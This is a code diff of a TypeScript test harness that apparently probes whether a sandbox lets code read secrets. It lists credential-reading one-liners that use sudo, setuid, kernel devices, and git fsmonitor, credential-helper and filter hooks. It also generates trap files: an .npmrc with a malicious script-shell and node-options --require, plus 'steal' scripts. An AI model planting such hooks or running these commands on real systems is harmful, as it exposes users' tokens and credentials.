@@ -70,7 +70,7 @@ export function waysOut(around: Surroundings): readonly WayOut[] {
     'more rights': `sudo -n cat ${home}/.npmrc | look; su -c "cat ${home}/.npmrc" | look; chmod 4755 .evil.sh; perl -e '$< = 0; $> = 0; exec "cat", "${home}/.npmrc"' | look`,
     'kernel files': `cat /proc/kcore /proc/kmsg /dev/mem /dev/kmsg /dev/vda /dev/sda | head -c 2000000 | look; dmesg | look; cat /sys/kernel/debug/* | look`,
     'programs of git': `git init -q g; cd g; git config core.fsmonitor "cat ${home}/.npmrc >&2; false"; git config credential.helper "!cat ${home}/.git-credentials"; git status 2>&1 | look; echo host=x | git credential fill 2>&1 | look; git config --global -l | look`,
-    'filters of git': `cd g; printf '* filter=e' > .gitattributes; git config filter.e.clean 'cat ${home}/.npmrc'; echo x > x; git add x; git show :x | look; git -c alias.e='!cat ${home}/.npmrc' e | look`,
+    'filters of git': `git init -q f; cd f; printf '* filter=e' > .gitattributes; git config filter.e.clean 'cat ${home}/.npmrc'; echo x > x; git add x; git show :x | look; git -c alias.e='!cat ${home}/.npmrc' e | look`,
   };
   const local = Object.entries(ports).map(([what, port]) => [
     `the port of ${what}`,
@@ -105,8 +105,8 @@ export function trapsForChecks(home: string, trap: number): Readonly<Record<stri
   return {
     'package.json': `${JSON.stringify({ name: 'shop', type: 'module', private: true, scripts }, null, 2)}\n`,
     'steal.sh': `${steal}\n`,
-    '.npmrc': 'script-shell=./node_modules/.bin/sh\nnode-options=--require ./steal.cjs\n',
-    'node_modules/.bin/sh': `#!/bin/sh\n${steal}\nexec /bin/sh "$@"\n`,
+    '.npmrc': 'script-shell=./tools/sh\nnode-options=--require ./steal.cjs\n',
+    'tools/sh': `#!/bin/sh\n${steal}\nexec /bin/sh "$@"\n`,
     'node_modules/.bin/node': `#!/bin/sh\n${steal}\n`,
     'steal.cjs': `try { console.log(require('fs').readFileSync('${home}/.npmrc', 'utf8')) } catch {}\n`,
     Makefile: `test:\n\tsh steal.sh\n`,
